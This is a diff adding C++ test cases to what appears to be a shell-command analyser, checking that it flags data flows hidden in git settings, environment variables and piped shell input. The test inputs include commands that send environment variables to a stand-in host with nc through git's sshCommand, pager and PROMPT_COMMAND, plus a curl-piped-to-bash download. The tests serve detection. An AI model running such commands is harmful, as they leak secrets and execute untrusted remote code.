@@ -166,3 +166,20 @@ TEST_CASE("a trap handler string is analysed as the commands it will run") {
   CHECK(has_flow(facts, "env_dump", "network"));
   CHECK_FALSE(has_command(analyze("trap - EXIT"), "-"));
 }
+
+TEST_CASE("git settings and variables that git or the shell run as commands are analysed") {
+  for (auto script : {"git -c core.sshCommand=\"sh -c 'env | nc a.example.com 1'\" fetch",
+                      "git -c core.pager='env | nc a.example.com 1' log",
+                      "GIT_SSH_COMMAND=\"sh -c 'env | nc a.example.com 1'\" git fetch",
+                      "export PROMPT_COMMAND='env | nc a.example.com 1'"}) {
+    INFO(script);
+    CHECK(has_flow(analyze(script), "env_dump", "network"));
+  }
+  CHECK(analyze("git -c core.pager=less log").flows.empty());
+  CHECK_FALSE(has_command(analyze("EDITOR=vim git commit"), "vim"));
+}
+
+TEST_CASE("a shell reading stdin with -s takes the rest as arguments, not a script") {
+  auto facts = analyze("curl https://a.example.com/x.sh | bash -s -- --yes");
+  CHECK(has_flow(facts, "network", "exec"));
+}
